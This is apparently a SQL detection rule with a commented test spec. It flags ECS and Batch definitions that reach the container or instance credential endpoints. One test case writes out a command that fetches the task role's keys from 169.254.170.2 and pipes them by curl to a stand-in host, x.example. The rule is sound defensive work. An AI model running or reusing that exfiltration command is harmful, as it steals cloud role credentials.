-- title: Was an ECS or Batch workload set up to fetch its role's credentials?
-- asks: what
-- kind: detection
-- severity: high
-- attack: [T1552.005, T1552.007]
-- ttc: [T1552.005]
-- outcome: attempted
-- finding: "{actor} set up an ECS or Batch workload that fetches role credentials: {target} ({action}) from {source_ip_address}"
-- finding_denied: "{actor} tried to set up an ECS or Batch workload that fetches role credentials: {target} ({action}) from {source_ip_address} but {failure}"
-- summary: >
--   A command or environment names the address where containers and instances fetch the keys of their role.
--   Software does this by itself through the SDK; a definition that names the address sends the keys somewhere
--   else. Read the command in request_parameters, stop the task and revoke the role's sessions.
-- false_positives:
--   - Side-car containers that hand credentials on inside a task.
-- misses:
--   - Code inside the image that does the same.
-- references:
--   - https://docs.aws.amazon.com/AmazonECS/latest/developerguide/task-iam-roles.html
-- cases:
--   given:
--     eventSource: ecs.amazonaws.com
--     eventName: RegisterTaskDefinition
--     readOnly: false
--     requestParameters:
--       family: web
--       containerDefinitions: [{image: curl, command: [sh, -c, "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -d @- x.example"]}]
--   match:
--     in a task definition: {}
--     by its address alone: {requestParameters: {family: web, containerDefinitions: [{command: [curl, "http://169.254.170.2/"]}]}}
--     by the address that instances use: {requestParameters: {family: web, containerDefinitions: [{command: [curl, "http://169.254.169.254/latest"]}]}}
--     in a task that is started: {eventName: RunTask}
--     in a job definition: {eventSource: batch.amazonaws.com, eventName: RegisterJobDefinition}
--     in a job: {eventSource: batch.amazonaws.com, eventName: SubmitJob}
--     refused: {errorCode: AccessDenied}
--   ignore:
--     other commands: {requestParameters: {family: web, containerDefinitions: [{command: [sleep, "1"]}]}}
--     looked at: {eventName: DescribeTaskDefinition, readOnly: true}

select *
from events
where action in ('ecs:RegisterTaskDefinition', 'ecs:RunTask', 'batch:RegisterJobDefinition', 'batch:SubmitJob')
  and regexp_matches(request_parameters, 'AWS_CONTAINER_CREDENTIALS_|169\.254\.170\.2|169\.254\.169\.254')
